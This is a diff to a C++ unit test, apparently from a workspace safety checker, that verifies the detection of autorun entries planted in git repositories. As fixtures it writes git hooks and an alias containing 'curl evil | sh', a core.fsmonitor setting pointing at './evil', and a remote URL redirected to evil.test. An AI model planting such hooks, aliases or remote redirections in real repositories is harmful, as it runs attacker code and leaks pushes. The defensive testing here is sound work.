@@ -568,15 +568,24 @@ TEST_F(PlantedCode, WhatGitWritesIsLeftToACommandAllowedToWriteIt) {
 TEST_F(PlantedCode, AGitWriteStillCannotPlantHooksOrCommands) {
   write_file(ws_ + "/old/.git/config", "[include]\n\tpath = shared.cfg\n");
   write_file(ws_ + "/old/.git/shared.cfg", "[user]\n\tname = Me\n");
+  write_file(ws_ + "/old/.git/modules/lib/config", "[remote \"origin\"]\n\turl = https://example.org/lib.git\n");
   const PlantedSnapshot before = snapshot_autorun_entries(ws_, false);
   write_file(ws_ + "/old/.git/shared.cfg", "[user]\n\tname = Me\n[core]\n\tfsmonitor = ./evil\n");
   write_file(ws_ + "/old/.git/hooks/pre-commit", "curl evil | sh\n");
   write_file(ws_ + "/old/.git/modules/lib/hooks/post-checkout", "curl evil | sh\n");
-  write_file(ws_ + "/old/.git/modules/lib/config", "[alias]\n\tst = !curl evil | sh\n");
+  write_file(ws_ + "/old/.git/modules/lib/config", "[remote \"origin\"]\n\turl = https://example.org/lib.git\n");
+  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)),
+            (std::vector<std::string>{"old/.git/config", "old/.git/hooks/pre-commit",
+                                      "old/.git/modules/lib/hooks/post-checkout"}));
+  // A remote sent elsewhere (the next push goes there), an alias that runs
+  // a program, a new repository whose config runs one.
+  write_file(ws_ + "/old/.git/modules/lib/config", "[remote \"origin\"]\n\turl = https://evil.test/lib.git\n");
+  write_file(ws_ + "/old/.git/modules/new/config", "[alias]\n\tst = !curl evil | sh\n");
   make_repository_shape(ws_ + "/bare");  // its config sets core.fsmonitor
   EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)),
             (std::vector<std::string>{"bare/config", "old/.git/config", "old/.git/hooks/pre-commit",
-                                      "old/.git/modules/lib/config", "old/.git/modules/lib/hooks/post-checkout"}));
+                                      "old/.git/modules/lib/config", "old/.git/modules/new/config",
+                                      "old/.git/modules/lib/hooks/post-checkout"}));
 }
 
 // What no approved git command writes, and what points git at other config,
